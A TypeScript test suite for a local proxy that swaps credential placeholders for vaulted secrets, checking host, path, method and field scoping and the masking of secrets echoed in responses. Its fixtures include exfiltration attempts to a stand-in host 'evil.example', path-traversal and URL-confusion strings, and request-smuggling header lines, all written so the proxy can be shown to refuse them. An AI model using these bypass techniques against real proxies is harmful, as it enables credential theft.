import { once } from 'node:events';
import { type IncomingHttpHeaders, request } from 'node:http';
import { connect } from 'node:net';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import type { SecretUse } from '@raypher/shared/rest';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { EventDraft } from '../ledger/event-draft.ts';
import { EchoingApi } from '../testing/echoing-api.ts';
import { engines, inForce, snapshotOf } from '../testing/policy-in-force.ts';
import { BOT } from '../testing/test-proxy.ts';
import { sealForUse, sealInto, startTestVault } from '../testing/test-vault.ts';
import type { Vault } from '../vault/vault.ts';
import type { CallerStanding } from './caller.ts';
import { LocalProxy } from './local-proxy.ts';
import { keyLikePlaceholder } from './secret-placeholder.ts';

/** Put together here so that they are no keys anywhere. */
const value = (name: string): string => ['sealed', name, `k+/=&"${'v'.repeat(20)}`].join('-');
const ALLOWED: CallerStanding = { allowed: true, entry: '/usr/bin/bot' };
const REFUSED: CallerStanding = {
  allowed: false,
  code: 'caller/not-allowed',
  reason: '/usr/bin/bot is not on the allow list.',
  hint: 'raypher allow /usr/bin/bot',
};

const USES: Record<string, SecretUse> = {
  github: {
    hosts: ['api.github.example'],
    methods: ['GET', 'POST', 'PUT'],
    paths: ['/repos/**', '/user'],
    in: [{ header: 'authorization', scheme: 'Bearer' }],
  },
  'x-key': { hosts: ['*.metrics.example'], in: [{ header: 'dd-api-key' }] },
  'x-app': { hosts: ['*.metrics.example'], in: [{ header: 'dd-application-key' }] },
  maps: { hosts: ['maps.example'], in: [{ query: 'key' }] },
  hook: { hosts: ['hooks.example'], in: [{ json: '/auth/token' }, { json: '/auth/to~1ken' }] },
  form: { hosts: ['forms.example'], methods: ['POST'], in: [{ form: 'client_secret' }] },
  pass: { hosts: ['basic.example'], in: [{ basic: 'password' }] },
  user: { hosts: ['basic.example'], in: [{ basic: 'username' }] },
  few: { hosts: ['few.example'], in: [{ header: 'x-key' }], maxUses: 3 },
  late: { hosts: ['late.example'], in: [{ header: 'x-key' }], expires: '2020-01-01T00:00:00Z' },
  port: { hosts: ['port.example:8443', '127.0.0.1:9', '[::1]:9'], in: [{ header: 'x-key' }] },
  model: { hosts: ['api.openai.com'], in: [{ header: 'x-key' }] },
};
const HOSTS = [
  'api.github.example',
  'api.github.example.evil.example',
  'evil.example',
  'eu.metrics.example',
  'metrics.example',
  'evilmetrics.example',
  'maps.example',
  'hooks.example',
  'forms.example',
  'basic.example',
  'few.example',
  'late.example',
  'port.example',
  'api.openai.com',
  `${keyLikePlaceholder('github')}.evil.example`,
];

let api: EchoingApi;
let proxy: LocalProxy;
let vault: Vault;
let standing: CallerStanding = ALLOWED;
let snapshot = snapshotOf('network: { default: allow }');
const events: EventDraft[] = [];

beforeAll(async () => {
  api = await EchoingApi.start();
  vault = await startTestVault();
  for (const [name, use] of Object.entries(USES)) await sealForUse(vault, name, use, value(name));
  await sealInto(vault, 'openai', 'openai', value('openai').replaceAll('"', ''));
  proxy = new LocalProxy(
    {
      port: 0,
      bodyLimitBytes: 1024 * 1024,
      connectTo: {
        ...Object.fromEntries(HOSTS.map((host) => [host, api.url])),
        // Not this machine, and not encrypted (RFC 5737).
        'x.metrics.example': 'http://192.0.2.1:9',
      },
    },
    {
      policy: inForce(() => snapshot),
      ...engines(),
      identify: async () => BOT,
      authorise: async () => standing,
      keys: vault,
      record: (event) => events.push(event),
      modelSeen: () => {},
      failed: (error) => {
        throw error;
      },
    },
  );
  await proxy.start();
});
afterEach(() => {
  standing = ALLOWED;
  snapshot = snapshotOf('network: { default: allow }');
  // Whatever was tried: no event holds a value.
  for (const name of Object.keys(USES)) expect(JSON.stringify(events)).not.toContain(value(name));
  events.length = 0;
  api.reset();
});
afterAll(async () => {
  await proxy.stop();
  await api.stop();
});

interface Sent {
  method?: string;
  headers?: Record<string, string | string[]>;
  body?: string | Buffer;
}

/** As a client with a configured proxy sends it: with an absolute URL, written as it is. */
async function send(
  url: string,
  { method, headers = {}, body }: Sent = {},
): Promise<{ status: number; body: string; headers: IncomingHttpHeaders }> {
  const outgoing = request({
    host: '127.0.0.1',
    port: proxy.port,
    path: url,
    method: method ?? (body === undefined ? 'GET' : 'POST'),
    headers: { ...headers, ...(body === undefined ? {} : { 'content-length': Buffer.byteLength(body) }) },
    agent: false,
  });
  outgoing.end(body);
  const [answer] = await once(outgoing, 'response');
  const chunks: Buffer[] = [];
  for await (const chunk of answer) chunks.push(chunk);
  return {
    status: Number(answer.statusCode),
    body: Buffer.concat(chunks).toString('latin1'),
    headers: answer.headers,
  };
}

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const bearer = { authorization: 'Bearer raypher:github' };
const REPOS = 'https://api.github.example/repos/a/b';
const basic = (pair: string) => ({ authorization: `Basic ${Buffer.from(pair).toString('base64')}` });
const unbasic = (header = '') => Buffer.from(header.replace('Basic ', ''), 'base64').toString();
const arrived = () => {
  const last = api.arrived.at(-1);
  if (last === undefined) throw new Error('nothing arrived');
  return last;
};

describe('a placeholder becomes the value', () => {
  test('in a header with a scheme, and in the form that looks like a key', async () => {
    const like = keyLikePlaceholder('github');
    for (const written of ['Bearer raypher:github', `bearer ${like}`, `Bearer ghp_${like}`]) {
      expect((await send(REPOS, { headers: { authorization: written } })).status).toBe(200);
      expect(arrived().headers.authorization?.slice(7)).toBe(value('github'));
    }
    expect(events[0]).toMatchObject({
      type: 'network.request',
      target: 'api.github.example/repos/a/b',
      data: { credential: 'sealed:github', credentialUses: ['github 1'] },
    });
    expect(events.map(({ data }) => data.credentialUses)).toEqual([['github 1'], ['github 2'], ['github 3']]);
  });

  test('in two headers, each with its own', async () => {
    const headers = { 'DD-API-KEY': 'raypher:x-key', 'dd-application-key': 'raypher:x-app' };
    await send('https://eu.metrics.example/v1/series', { headers });
    expect(arrived().headers).toMatchObject({
      'dd-api-key': value('x-key'),
      'dd-application-key': value('x-app'),
    });
  });

  test('in the query, of which the rest stays byte for byte', async () => {
    for (const written of ['raypher:maps', 'raypher%3Amaps', '%72aypher:maps']) {
      await send(`https://maps.example/geo?a=%20b&key=${written}&c=d+e`);
      expect(arrived().path).toBe(`/geo?a=%20b&key=${encodeURIComponent(value('maps'))}&c=d+e`);
    }
  });

  test('in a JSON body, of which the rest stays byte for byte', async () => {
    const text = '{ "n": 12345678901234567890,\n "auth": {"token" : "raypher:hook", "é": "ü"} }';
    await send('https://hooks.example/in', { headers: json, body: text });
    expect(arrived().body).toBe(text.replace('"raypher:hook"', JSON.stringify(value('hook'))));
    await send('https://hooks.example/in', { headers: json, body: '{"auth":{"to/ken":"raypher:hook"}}' });
    expect(JSON.parse(arrived().body)).toEqual({ auth: { 'to/ken': value('hook') } });
  });

  test('in a packed body, which goes on unpacked', async () => {
    const body = gzipSync('{"auth":{"token":"raypher:hook"}}');
    await send('https://hooks.example/in', { headers: { ...json, 'content-encoding': 'gzip' }, body });
    expect(arrived().headers['content-encoding']).toBeUndefined();
    expect(JSON.parse(arrived().body)).toEqual({ auth: { token: value('hook') } });
  });

  test('in a form', async () => {
    await send('https://forms.example/token', { headers: form, body: 'a=b+c&client_secret=raypher%3Aform' });
    expect(arrived().body).toBe(`a=b+c&client_secret=${encodeURIComponent(value('form'))}`);
  });

  test('as user name or password', async () => {
    await send('https://basic.example/', { headers: basic('ann:raypher:pass') });
    expect(unbasic(arrived().headers.authorization)).toBe(`ann:${value('pass')}`);
    await send('https://basic.example/', { headers: basic(`${keyLikePlaceholder('user')}:`) });
    expect(unbasic(arrived().headers.authorization)).toBe(`${value('user')}:`);
  });

  test('on the port it is for', async () => {
    const headers = { 'x-key': 'raypher:port' };
    await send('https://port.example:8443/', { headers });
    expect(arrived().headers['x-key']).toBe(value('port'));
    expect((await send('https://port.example/', { headers })).status).toBe(403);
  });

  test('for a host that is a provider of models as well', async () => {
    await send('https://api.openai.com/v1/files', { headers: { 'x-key': 'raypher:model' } });
    expect(arrived().headers['x-key']).toBe(value('model'));
  });
});

describe('nothing arrives anywhere, and the refusal says where the value is for', () => {
  const like = keyLikePlaceholder('github');
  test.each<[string, string, Sent]>([
    ['another host', 'https://evil.example/repos/a/b', { headers: bearer }],
    ['a longer host', 'https://api.github.example.evil.example/repos/a', { headers: bearer }],
    ['another port', 'https://api.github.example:8443/repos/a', { headers: bearer }],
    ['no TLS', 'http://api.github.example/repos/a', { headers: bearer }],
    ['no TLS, on its port', 'http://api.github.example:443/repos/a', { headers: bearer }],
    ['another path', 'https://api.github.example/gists', { headers: bearer }],
    [
      'GraphQL at the right host',
      'https://api.github.example/graphql',
      { headers: { ...bearer, ...json }, body: '{"query":"{viewer{login}}"}' },
    ],
    ['the way up', 'https://api.github.example/repos/../admin', { headers: bearer }],
    ['the way up, encoded', 'https://api.github.example/repos/%2e%2e/admin', { headers: bearer }],
    ['the way up, encoded twice', 'https://api.github.example/repos/%252e%252e/admin', { headers: bearer }],
    [
      'the way up, behind a slash encoded',
      'https://api.github.example/repos/x%2f..%2fadmin',
      { headers: bearer },
    ],
    ['a backslash', 'https://api.github.example/repos/..\\admin', { headers: bearer }],
    ['path parameters', 'https://api.github.example/repos/..;/admin', { headers: bearer }],
    ['a doubled slash', 'https://api.github.example//repos/a', { headers: bearer }],
    ['another method', REPOS, { method: 'DELETE', headers: bearer }],
    ['HEAD', REPOS, { method: 'HEAD', headers: bearer }],
    ['OPTIONS', REPOS, { method: 'OPTIONS', headers: bearer }],
    ['another method in the query', `${REPOS}?_method=delete`, { headers: bearer }],
    ['another method in a form', REPOS, { headers: { ...bearer, ...form }, body: '%5Fmethod=delete' }],
    ['another scheme', REPOS, { headers: { authorization: 'token raypher:github' } }],
    ['no scheme', REPOS, { headers: { authorization: 'raypher:github' } }],
    ['more around it', REPOS, { headers: { authorization: 'Bearer raypher:github, raypher:github' } }],
    ['another header', REPOS, { headers: { 'x-copy': 'raypher:github' } }],
    ['a second header beside it', REPOS, { headers: { ...bearer, 'x-copy': 'raypher:github' } }],
    ['the header twice', REPOS, { headers: { authorization: ['Bearer raypher:github', 'Bearer own'] } }],
    ['Referer', REPOS, { headers: { ...bearer, referer: 'https://a.example/?t=raypher%3Agithub' } }],
    ['User-Agent', REPOS, { headers: { ...bearer, 'user-agent': `bot/1 (${like})` } }],
    ['a cookie', REPOS, { headers: { ...bearer, cookie: 'session=raypher:github' } }],
    ['the name of a header', REPOS, { headers: { [`x-${like}`]: '1' } }],
    ['the host name', `https://${like}.evil.example/repos/a`, {}],
    ['the path', 'https://api.github.example/repos/raypher:github', {}],
    ['the path, encoded', 'https://evil.example/%72aypher%3Agithub', {}],
    ['the query', `${REPOS}?token=raypher:github`, {}],
    ['the name of a parameter', 'https://evil.example/?raypher%3Agithub=1', {}],
    ['a parameter encoded twice', 'https://evil.example/?a=raypher%253Agithub', {}],
    ['a parameter that is given twice', 'https://maps.example/?key=raypher:maps&key=x', {}],
    ['a user name', 'https://basic.example/', { headers: basic('raypher:pass') }],
    ['both', 'https://basic.example/', { headers: basic('raypher:pass:raypher:pass') }],
    [
      'the body for another host',
      'https://evil.example/',
      { headers: json, body: '{"auth":{"token":"raypher:hook"}}' },
    ],
    ['another field', 'https://hooks.example/', { headers: json, body: '{"token":"raypher:hook"}' }],
    [
      'two fields',
      'https://hooks.example/',
      { headers: json, body: '{"auth":{"token":"raypher:hook"},"x":"raypher:hook"}' },
    ],
    [
      'the field twice',
      'https://hooks.example/',
      { headers: json, body: '{"auth":{"token":"raypher:hook","token":"x"}}' },
    ],
    [
      'a field above it twice',
      'https://hooks.example/',
      { headers: json, body: '{"auth":{"token":"raypher:hook"},"auth":{}}' },
    ],
    [
      'the name of a field',
      'https://hooks.example/',
      { headers: json, body: '{"auth":{"raypher:hook":"x"}}' },
    ],
    [
      'JSON escapes',
      'https://hooks.example/',
      { headers: json, body: '{"auth":{"token":"\\u0072aypher\\u003Ahook"}}' },
    ],
    [
      'JSON escapes for another field',
      'https://hooks.example/',
      { headers: json, body: '{"x":"rayphe\\u0072:hook"}' },
    ],
    [
      'JSON that is none',
      'https://hooks.example/',
      { headers: json, body: '{"auth":{"token":"raypher:hook"}' },
    ],
    [
      'other text around it',
      'https://hooks.example/',
      { headers: json, body: '{"auth":{"token":"Bearer raypher:hook"}}' },
    ],
    ['text', 'https://hooks.example/', { headers: { 'content-type': 'text/plain' }, body: 'raypher:hook' }],
    [
      'a packed body for another host',
      'https://evil.example/',
      { headers: { 'content-encoding': 'br' }, body: brotliCompressSync('say raypher:hook.') },
    ],
    ['another field of a form', 'https://forms.example/', { headers: form, body: 'x=raypher:form' }],
    [
      'percent-encoding for another field',
      'https://forms.example/',
      { headers: form, body: 'x=%72aypher%3aform' },
    ],
    [
      'multipart',
      'https://forms.example/',
      {
        headers: { 'content-type': 'multipart/form-data; boundary=b' },
        body: '--b\r\nContent-Disposition: form-data; name="client_secret"\r\n\r\nraypher:form\r\n--b--\r\n',
      },
    ],
    [
      'a suffix without its dot',
      'https://evilmetrics.example/',
      { headers: { 'dd-api-key': 'raypher:x-key' } },
    ],
    ['the suffix itself', 'https://metrics.example/', { headers: { 'dd-api-key': 'raypher:x-key' } }],
    ['plain HTTP behind a map', 'https://x.metrics.example/', { headers: { 'dd-api-key': 'raypher:x-key' } }],
    ['a header of a model provider', 'https://api.openai.com/v1/files', { headers: bearer }],
  ])('%s', async (_, url, sent) => {
    const { status, headers } = await send(url, sent);
    expect({ status, refused: headers['x-raypher'] }).toEqual({ status: 403, refused: 'denied' });
    expect(api.arrived).toEqual([]);
    expect(events).toEqual([
      expect.objectContaining({
        type: 'vault.refused',
        verdict: expect.objectContaining({
          rule: 'placeholder-elsewhere',
          layer: 'builtin',
          outcome: 'DENY',
        }),
        data: expect.objectContaining({ secret: expect.stringMatching(/^[a-z-]+$/) }),
      }),
    ]);
    expect(events[0]?.verdict?.reason).toContain('It is for ');
  });

  test('in monitor mode as well', async () => {
    snapshot = snapshotOf('network: { default: allow }', 'monitor');
    expect((await send('https://evil.example/repos', { headers: bearer })).status).toBe(403);
    expect(api.arrived).toEqual([]);
  });

  test.each([
    ['user information', 'https://api.github.example@evil.example/repos/a'],
    ['a fragment', 'https://evil.example#@api.github.example/repos/a'],
    ['a backslash before the host', 'https://evil.example\\@api.github.example/repos/a'],
    ['a query without a path', 'https://evil.example?x=https://api.github.example/repos/a'],
  ])('through %s', async (_, url) => {
    expect((await send(url, { headers: bearer })).status).toBeGreaterThanOrEqual(400);
    expect(api.arrived).toEqual([]);
  });

  test.each([
    ['a Host header of another host', 'https://evil.example/repos/a', ['Host: api.github.example']],
    ['a header that is cut in two', `${REPOS}`, ['Host: x', 'X-A: raypher:\r github']],
    ['TRACE', REPOS, ['Host: x'], 'TRACE'],
    ['TRACK', REPOS, ['Host: x'], 'TRACK'],
    ['another method in a header', REPOS, ['Host: x', 'X-HTTP-Method-Override: DELETE']],
    ['another path in a header', REPOS, ['Host: x', 'X-Original-URL: /admin']],
    [
      'a handshake of a WebSocket',
      REPOS,
      [
        'Host: x',
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ],
    ],
  ])('through %s', async (_, url, headers, method = 'GET') => {
    const socket = connect(proxy.port, '127.0.0.1');
    let answer = '';
    socket.setEncoding('latin1').on('data', (text: string) => {
      answer += text;
    });
    const lines = headers.some((line) => line.startsWith('Connection')) ? [] : ['Connection: close'];
    socket.write(
      [
        `${method} ${url} HTTP/1.1`,
        ...lines,
        ...headers,
        'Authorization: Bearer raypher:github',
        '',
        '',
      ].join('\r\n'),
    );
    await once(socket, 'close');
    expect(answer).toMatch(/^HTTP\/1\.1 4\d\d /);
    expect(api.arrived).toEqual([]);
  });

  test.each([
    ['the word alone', 'https://eu.metrics.example/', 'Bearer raypher'],
    ['the word alone, at a provider', 'https://api.openai.com/v1/models', 'Bearer raypher'],
    ['a name that nobody knows', 'https://eu.metrics.example/', 'Bearer raypher:nobody'],
    ['a key of a provider', 'https://api.openai.com/v1/models', 'Bearer raypher:openai'],
  ])('beside the placeholder of a provider: %s', async (_, url, authorization) => {
    const own = url.includes('openai') ? { 'x-key': 'raypher:model' } : { 'dd-api-key': 'raypher:x-key' };
    expect((await send(url, { headers: { authorization, ...own } })).status).toBe(400);
    expect(events[0]?.verdict?.rule).toBe('ambiguous-placeholder');
    expect(api.arrived).toEqual([]);
  });

  test('twice is too often, even where both are meant', async () => {
    const body = '{"auth":{"token":"raypher:hook","to/ken":"raypher_hook_x"}}'.replace(
      'raypher_hook_x',
      keyLikePlaceholder('hook'),
    );
    expect((await send('https://hooks.example/', { headers: json, body })).status).toBe(400);
    expect(events[0]?.verdict?.rule).toBe('ambiguous-placeholder');
    expect(api.arrived).toEqual([]);
  });
});

test('a program that is not allowed is told how it would be', async () => {
  standing = REFUSED;
  const { status, body } = await send(REPOS, { headers: bearer });
  expect(status).toBe(403);
  expect(body).toContain('raypher allow /usr/bin/bot');
  expect(api.arrived).toEqual([]);
  expect(events[0]).toMatchObject({
    type: 'vault.refused',
    verdict: { rule: 'caller-not-allowed' },
    data: { secret: 'github' },
  });
});

test('in a conversation with a model it is text, and stays it', async () => {
  const body = JSON.stringify({
    model: 'gpt-4o',
    messages: [{ role: 'user', content: 'curl -H "Authorization: Bearer raypher:github"' }],
  });
  await send('https://api.openai.com/v1/chat/completions', {
    headers: { ...json, authorization: 'Bearer own' },
    body,
  });
  expect(arrived().body).toBe(body);
  expect(JSON.stringify(arrived())).not.toContain(value('github'));
});

test.each([
  ['another name', 'see raypher:githubs and raypher:git'],
  ['the word alone', 'raypher'],
  ['a check that is not its own', 'raypher_github_00000000'],
])('%s is no placeholder', async (_, text) => {
  await send('https://evil.example/', { headers: { 'content-type': 'text/plain' }, body: text });
  expect(arrived().body).toBe(text);
});

test('no more than the allowed number of uses, however many ask at once', async () => {
  const headers = { 'x-key': 'raypher:few' };
  const answers = await Promise.all(
    Array.from({ length: 12 }, () => send('https://few.example/', { headers })),
  );
  expect(answers.map(({ status }) => status).sort()).toEqual([200, 200, 200, ...Array(9).fill(403)]);
  expect(api.arrived).toHaveLength(3);
  const refused = events.filter(({ type }) => type === 'vault.refused');
  expect(refused).toHaveLength(9);
  expect(refused[0]).toMatchObject({ data: { code: 'vault/used-up', secret: 'few' } });
});

test('not after its time', async () => {
  const { status, body } = await send('https://late.example/', { headers: { 'x-key': 'raypher:late' } });
  expect(status).toBe(403);
  expect(body).toContain('until 2020-01-01');
  expect(events[0]).toMatchObject({ verdict: { rule: 'expired' }, data: { code: 'vault/expired' } });
  expect(api.arrived).toEqual([]);
});

test('not any more once it was revoked: then its placeholder is nobody’s', async () => {
  await sealForUse(vault, 'gone', { hosts: ['maps.example'], in: [{ header: 'x-key' }] }, value('gone'));
  const headers = { 'x-key': 'raypher:gone' };
  await send('https://maps.example/', { headers });
  expect(arrived().headers['x-key']).toBe(value('gone'));
  await vault.revoke('gone', { kind: 'user', id: 'ada', name: 'ada' });
  await send('https://maps.example/', { headers });
  expect(arrived().headers['x-key']).toBe('raypher:gone');
});

describe('what an answer repeats does not reach the program', () => {
  const secret = value('github');
  const spellings: [string, string][] = [
    ['as it is', secret],
    ['in base64', Buffer.from(`${secret}x`).toString('base64')],
    ['in base64, one byte later', Buffer.from(`u${secret}x`).toString('base64')],
    ['in base64, two bytes later', Buffer.from(`u:${secret}`).toString('base64url')],
    ['in a URL', encodeURIComponent(secret)],
    ['in a URL, in lower case', encodeURIComponent(secret).replace(/%../g, (code) => code.toLowerCase())],
    ['in a form', new URLSearchParams({ secret }).toString()],
    ['in JSON', JSON.stringify({ secret })],
    ['in HTML', secret.replaceAll('&', '&amp;').replaceAll('"', '&quot;')],
    ['in hexadecimal', Buffer.from(secret).toString('hex')],
  ];
  /** Nothing of it that is longer than what base64 shares with its neighbours. */
  const expectNothing = (text: string): void => {
    expect(text).not.toContain('v'.repeat(8));
    expect(text).not.toContain(Buffer.from('v'.repeat(9)).toString('base64').slice(0, 8));
    expect(text).not.toContain(Buffer.from('v'.repeat(8)).toString('hex'));
  };

  test('of all that it was sent', async () => {
    const { body, status } = await send(REPOS, { headers: { ...bearer, ...json }, body: '{}' });
    expect(status).toBe(200);
    expect(arrived().headers.authorization).toBe(`Bearer ${secret}`);
    expectNothing(body);
    expect(JSON.parse(body).headers.authorization).toMatch(/^Bearer \*+$/);
  });

  test.each(spellings)('%s, in a header and an error page', async (_, spelling) => {
    api.answer = (_request, response) => {
      const header = spelling.replaceAll('\n', '');
      response.writeHead(418, {
        'x-echo': header,
        'set-cookie': [`a=${header}`, 'b=c'],
        'content-type': 'text/html',
      });
      response.end(`<p>before ${spelling} after</p>`);
    };
    const { status, body, headers } = await send(REPOS, { headers: bearer });
    expect(status).toBe(418);
    expectNothing(JSON.stringify(headers));
    expectNothing(body);
    expect(body).toMatch(/^<p>before .* after<\/p>$/);
    expect(body).toHaveLength(`<p>before ${spelling} after</p>`.length);
    expect(headers['set-cookie']?.[1]).toBe('b=c');
  });

  test.each([
    ['text/event-stream', 'data: '],
    ['application/x-ndjson', ''],
    ['application/octet-stream', '\u0000'],
  ])('in a stream of %s that is cut at every byte', async (type, before) => {
    const whole = `${before}${spellings.map(([, text]) => text).join('\n')}\n\n`;
    api.answer = async (_request, response) => {
      response.writeHead(200, { 'content-type': type });
      for (const byte of Buffer.from(whole, 'latin1')) {
        if (!response.write(Buffer.of(byte))) await once(response, 'drain');
        // Each write leaves as a chunk of its own.
        await new Promise((resolve) => setImmediate(resolve));
      }
      response.end();
    };
    const { body } = await send(REPOS, { headers: bearer });
    expect(body).toHaveLength(whole.length);
    expectNothing(body);
  });

  test.each([
    ['gzip', gzipSync],
    ['br', brotliCompressSync],
  ])('packed with %s, although plain text was asked for', async (coding, pack) => {
    api.answer = ({ headers }, response) => {
      expect(headers['accept-encoding']).toBe('identity');
      response.writeHead(200, { 'content-encoding': coding, 'content-type': 'application/octet-stream' });
      response.end(pack(`it is ${secret}.`));
    };
    const { body, headers } = await send(REPOS, { headers: { ...bearer, 'accept-encoding': coding } });
    expect(headers['content-encoding']).toBeUndefined();
    expect(body).toBe(`it is ${'*'.repeat(secret.length)}.`);
  });

  test('in a coding that nobody knows: nothing of the answer', async () => {
    api.answer = (_request, response) => {
      response.writeHead(200, { 'content-encoding': 'x-rot13' });
      response.end(secret);
    };
    const { status, body } = await send(REPOS, { headers: bearer });
    expect(status).toBe(403);
    expectNothing(body);
  });

  test('in halves: no part of an answer is asked for', async () => {
    const headers = { ...bearer, range: 'bytes=0-9', 'if-range': '"tag"' };
    await send(REPOS, { headers });
    expect(arrived().headers.range).toBeUndefined();
    expect(arrived().headers['if-range']).toBeUndefined();
  });

  test('in a redirect, which is not followed', async () => {
    api.answer = (_request, response) => {
      response.writeHead(302, { location: `https://evil.example/?t=${encodeURIComponent(secret)}` });
      response.end();
    };
    const { status, headers } = await send(REPOS, { headers: bearer });
    expect(status).toBe(302);
    expectNothing(headers.location ?? '');
    expect(api.arrived).toHaveLength(1);
  });

  test('and neither does the key of a provider', async () => {
    const { body } = await send('https://api.openai.com/v1/models', {
      headers: { authorization: 'Bearer raypher' },
    });
    expect(arrived().headers.authorization).toContain('v'.repeat(20));
    expectNothing(body);
  });

  test('but what was not put in by this request is left alone', async () => {
    api.answer = (_request, response) => response.end(secret);
    expect((await send('https://evil.example/')).body).toBe(secret);
  });
});
